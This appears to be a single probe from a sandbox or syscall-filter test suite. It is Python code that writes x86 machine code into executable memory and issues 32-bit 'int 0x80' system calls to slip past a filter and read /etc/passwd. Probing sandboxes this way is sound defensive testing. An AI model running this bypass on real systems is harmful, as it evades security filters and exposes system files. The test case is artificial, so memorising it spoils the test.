# family: system-calls
# kind: value
# machine: x86_64
# tries: int 0x80 from memory that may be executed: other numbers than a filter knows
# success looks like: contents of /etc/passwd
def job(plugin):
  @LIBC@
  page = libc.mmap(None, c.c_size_t(8192), 7, 0x62, -1, c.c_long(0))
  if page in (None, c.c_void_p(-1).value):
    return 'no page'
  code = b'\x53\x89\xf8\x89\xf3\x87\xca\xcd\x80\x5b\xc3'
  c.memmove(page, code, len(code))
  function = c.CFUNCTYPE(c.c_int, c.c_uint, c.c_uint, c.c_uint, c.c_uint)(page)
  c.memmove(page + 1024, b'/etc/passwd\0', 12)
  # its arguments: number, and the first three of the call
  fd = function(5, page + 1024, 0, 0)
  if fd < 0:
    return 'open32 %d' % fd
  got = function(3, fd, page + 2048, 400)
  return [got, c.string_at(page + 2048, max(got, 0))]
